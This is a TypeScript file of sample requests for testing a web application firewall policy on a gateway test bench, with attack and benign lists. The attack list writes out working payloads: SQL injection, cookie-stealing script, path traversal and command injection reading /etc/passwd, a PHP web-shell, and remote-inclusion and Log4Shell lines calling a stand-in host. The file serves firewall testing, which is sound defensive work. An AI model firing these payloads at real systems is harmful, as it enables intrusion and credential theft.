/** Requests to try a policy with. They are sent to the test bench of a gateway, and nowhere else. */
import type { WafTestRequest } from '@meshwork/contract';

type Example = Pick<WafTestRequest, 'method' | 'uri' | 'body'> & {
  readonly label: string;
  readonly content_type?: string;
};

const get = (label: string, uri: string): Example => ({ label, method: 'GET', uri, body: null });
const post = (label: string, uri: string, content_type: string, body: string): Example => ({
  ...{ label, method: 'POST', uri, content_type, body },
});

const FORM = 'application/x-www-form-urlencoded';
const JSON_TYPE = 'application/json';

export const ATTACKS: readonly Example[] = [
  get('SQL injection in an argument', '/search?q=1%27%20OR%20%271%27=%271'),
  post('SQL injection in JSON', '/api/users', JSON_TYPE, `{"name":"x' UNION SELECT password FROM users--"}`),
  get('Cross-site scripting', '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E'),
  get('Path traversal', '/download?file=../../../../etc/passwd'),
  get('Remote file inclusion', '/index.php?page=http://192.0.2.66/shell.txt?'),
  post('Command injection', '/ping', FORM, 'host=127.0.0.1;cat%20/etc/passwd'),
  post('PHP injection', '/comment', FORM, 'text=%3C%3Fphp%20system($_GET[%22c%22])%3B%20%3F%3E'),
  get('Log4Shell', '/?x=%24%7Bjndi:ldap://192.0.2.66/a%7D'),
  get('A scanner that looks for secrets', '/.git/config'),
];

export const BENIGN: readonly Example[] = [
  get('A search', '/search?q=winter+coat'),
  get('A search with an apostrophe', '/search?q=O%27Brien'),
  post('Signing in', '/login', FORM, 'user=ada&password=correct+horse+battery+staple'),
  post('A comment with code', '/comment', FORM, 'text=Use+SELECT+name+FROM+users+WHERE+id+%3D+1'),
  post('JSON of an application', '/api/orders', JSON_TYPE, '{"items":[{"id":7,"count":2}],"note":"ring twice"}'),
];

export function headersOf({ content_type }: Example): string {
  return [
    'User-Agent: Mozilla/5.0',
    'Accept: */*',
    ...(content_type === undefined ? [] : [`Content-Type: ${content_type}`]),
  ].join('\n');
}

export function exampleNamed(label: string | null): Example | undefined {
  return [...ATTACKS, ...BENIGN].find((one) => one.label === label);
}
